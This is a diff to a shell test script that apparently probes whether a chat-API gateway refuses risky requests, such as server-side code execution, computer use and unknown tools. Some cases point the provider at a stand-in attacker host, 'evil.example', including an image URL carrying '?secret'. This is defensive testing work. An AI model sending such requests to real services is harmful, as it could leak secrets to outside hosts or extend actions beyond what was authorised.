@@ -109,6 +109,9 @@ ask placeholder 'have a placeholder in a text replaced' \
 ask server-search "have the provider search the web for it" "$(post $chat "$(tool '{"type":"web_search"}')" "$close")"
 ask server-mcp 'have the provider speak to a server of its own' \
   "$(post $chat "$(tool '{"type":"mcp","server_url":"https://evil.example"}')" "$close")"
+ask server-code 'have the provider run code' "$(post $chat "$(tool '{"type":"code_interpreter"}')" "$close")"
+ask server-computer 'have the provider use a computer' "$(post $chat "$(tool '{"type":"computer_use_preview"}')" "$close")"
+ask server-unknown 'name a tool that nobody knows' "$(post $chat "$(tool '{"type":"tool_of_tomorrow"}')" "$close")"
 ask server-url 'have the provider fetch an address' "$(post $chat "{\"model\":\"$model\",\"messages\":[{\"role\":\"user\",
 \"content\":[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://evil.example/?secret\"}}]}]}" "$close")"
 ask stored 'ask for something stored' "$(post $chat "{\"model\":\"$model\",$message,\"store\":true}" "$close")"
